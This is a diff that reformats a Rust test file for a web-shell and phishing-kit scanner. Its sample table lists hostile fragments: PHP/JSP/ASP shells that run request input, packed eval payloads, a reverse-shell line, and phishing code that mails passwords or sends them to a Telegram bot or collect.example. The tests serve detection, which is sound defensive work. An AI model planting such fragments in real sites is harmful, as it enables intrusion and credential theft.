@@ -31,28 +31,73 @@ fn sample(text: &str) -> Vec<u8> {
 
 const BAD: &[(&str, &str)] = &[
     ("php_input_executed", "{?} @{e}({P}['x']);"),
-    ("php_input_executed", "{?} {s} ( stripslashes({b}( {R}[ 'c' ])));"),
+    (
+        "php_input_executed",
+        "{?} {s} ( stripslashes({b}( {R}[ 'c' ])));",
+    ),
     ("php_input_executed", "{?} $x = `ls {G}[d]`;"),
     ("php_input_executed", "{?} {G}['f']({P}['a']);"),
     ("php_input_executed", "{?} array_map({P}['f'], [1]);"),
     ("php_input_executed", "{?} include({G}['p']);"),
-    ("php_packed_code", "{?} {e}(gzinflate(str_rot13({b}('{long}'))));"),
+    (
+        "php_packed_code",
+        "{?} {e}(gzinflate(str_rot13({b}('{long}'))));",
+    ),
     ("php_packed_code", "{?} {e}({b}($x));"),
-    ("php_packed_code", "{?} $f = chr(97).chr(98).chr(99).chr(100).chr(101).chr(102).chr(103).chr(104).chr(1);"),
-    ("php_packed_code", "{?} ${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}['a'] = 1;"),
+    (
+        "php_packed_code",
+        "{?} $f = chr(97).chr(98).chr(99).chr(100).chr(101).chr(102).chr(103).chr(104).chr(1);",
+    ),
+    (
+        "php_packed_code",
+        "{?} ${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}['a'] = 1;",
+    ),
     ("php_in_picture", "GIF89a..{?} {e}({P}[0]);"),
-    ("php_file_manager", "{?} foreach(scandir({G}['d']) as $f); file_put_contents($p, {P}['c']); unlink({G}['r']);"),
-    ("php_uploader_bare", "{?} move_uploaded_file({F}['f']['tmp_name'], {F}['f']['name']);"),
-    ("php_connect_back", "{?} $s = fsockopen($h, 1); proc_open('/bin/sh -i', $d, $p);"),
-    ("java_input_executed", "<% Runtime.getRuntime().exec({q}(\"c\")); %>"),
-    ("java_input_executed", "<% new ProcessBuilder(\"sh\", \"-c\", {q}(\"c\")).start(); %>"),
+    (
+        "php_file_manager",
+        "{?} foreach(scandir({G}['d']) as $f); file_put_contents($p, {P}['c']); unlink({G}['r']);",
+    ),
+    (
+        "php_uploader_bare",
+        "{?} move_uploaded_file({F}['f']['tmp_name'], {F}['f']['name']);",
+    ),
+    (
+        "php_connect_back",
+        "{?} $s = fsockopen($h, 1); proc_open('/bin/sh -i', $d, $p);",
+    ),
+    (
+        "java_input_executed",
+        "<% Runtime.getRuntime().exec({q}(\"c\")); %>",
+    ),
+    (
+        "java_input_executed",
+        "<% new ProcessBuilder(\"sh\", \"-c\", {q}(\"c\")).start(); %>",
+    ),
     ("asp_input_executed", "<% {e}(Request.Item[\"x\"]) %>"),
-    ("phishing_kit_mails_answers", "{?} $m = {P}['password'].$_SERVER['REMOTE_ADDR']; mail($to, 'x', $m); header('Location: https://example.org');"),
-    ("phishing_kit_mails_answers", "{?} $m = {P}['_pass'].getenv('REMOTE_ADDR'); file_get_contents('https://api.telegram.org/bot1/x?'.$m);"),
-    ("mass_mailer", "{?} $list = {P}['emaillist']; foreach (explode(\"\\n\", $list) as $to) { mail($to, $s, $b, \"From: $f\"); }"),
-    ("webmail_login_stolen", "{?} $this->add_hook('authenticate', [$this, 'a']); function a($args) { file_put_contents('/tmp/x', $args['user'].':'.$args['pass']); }"),
-    ("webmail_page_altered", "<script>f.onsubmit=function(){fetch('https://collect.example/x?p='+document.getElementById('rcmloginpwd').value)}</script>"),
-    ("htaccess_runs_data", "AddType application/x-httpd-php .jpg\n"),
+    (
+        "phishing_kit_mails_answers",
+        "{?} $m = {P}['password'].$_SERVER['REMOTE_ADDR']; mail($to, 'x', $m); header('Location: https://example.org');",
+    ),
+    (
+        "phishing_kit_mails_answers",
+        "{?} $m = {P}['_pass'].getenv('REMOTE_ADDR'); file_get_contents('https://api.telegram.org/bot1/x?'.$m);",
+    ),
+    (
+        "mass_mailer",
+        "{?} $list = {P}['emaillist']; foreach (explode(\"\\n\", $list) as $to) { mail($to, $s, $b, \"From: $f\"); }",
+    ),
+    (
+        "webmail_login_stolen",
+        "{?} $this->add_hook('authenticate', [$this, 'a']); function a($args) { file_put_contents('/tmp/x', $args['user'].':'.$args['pass']); }",
+    ),
+    (
+        "webmail_page_altered",
+        "<script>f.onsubmit=function(){fetch('https://collect.example/x?p='+document.getElementById('rcmloginpwd').value)}</script>",
+    ),
+    (
+        "htaccess_runs_data",
+        "AddType application/x-httpd-php .jpg\n",
+    ),
     ("htaccess_runs_data", "php_value auto_prepend_file /tmp/x\n"),
 ];
 
@@ -77,7 +122,10 @@ fn each_rule_finds_its_samples_and_no_honest_code() {
     let rules = rules();
     for (rule, text) in BAD {
         let found = rules.scan("x", &sample(text)).unwrap();
-        assert!(found.iter().any(|f| f.rule == *rule), "{rule}: {text}: {found:?}");
+        assert!(
+            found.iter().any(|f| f.rule == *rule),
+            "{rule}: {text}: {found:?}"
+        );
         let f = found.iter().find(|f| f.rule == *rule).unwrap();
         assert!(!f.techniques.is_empty() && !f.next.is_empty() && !f.places.is_empty());
     }
@@ -98,7 +146,11 @@ fn each_rule_finds_its_samples_and_no_honest_code() {
 fn installed_software_is_quiet() {
     let rules = rules();
     let mut files = Vec::new();
-    for dir in ["/usr/share/roundcube", "/usr/share/php", "/var/lib/roundcube/plugins"] {
+    for dir in [
+        "/usr/share/roundcube",
+        "/usr/share/php",
+        "/var/lib/roundcube/plugins",
+    ] {
         walk(Path::new(dir), &mut files);
     }
     if files.is_empty() {
@@ -106,11 +158,21 @@ fn installed_software_is_quiet() {
         return;
     }
     let scan = scan_tree(&rules, &files, &Limits::default());
-    println!("{} files, {} octets, {} findings", scan.files, scan.bytes, scan.findings.len());
+    println!(
+        "{} files, {} octets, {} findings",
+        scan.files,
+        scan.bytes,
+        scan.findings.len()
+    );
     let found: Vec<_> = scan
         .findings
         .iter()
-        .map(|f| format!("{} {} {:?}", f.rule, f.places[0].artefact, f.places[0].excerpt))
+        .map(|f| {
+            format!(
+                "{} {} {:?}",
+                f.rule, f.places[0].artefact, f.places[0].excerpt
+            )
+        })
         .collect();
     assert!(found.is_empty(), "{}", found.join("\n"));
 }
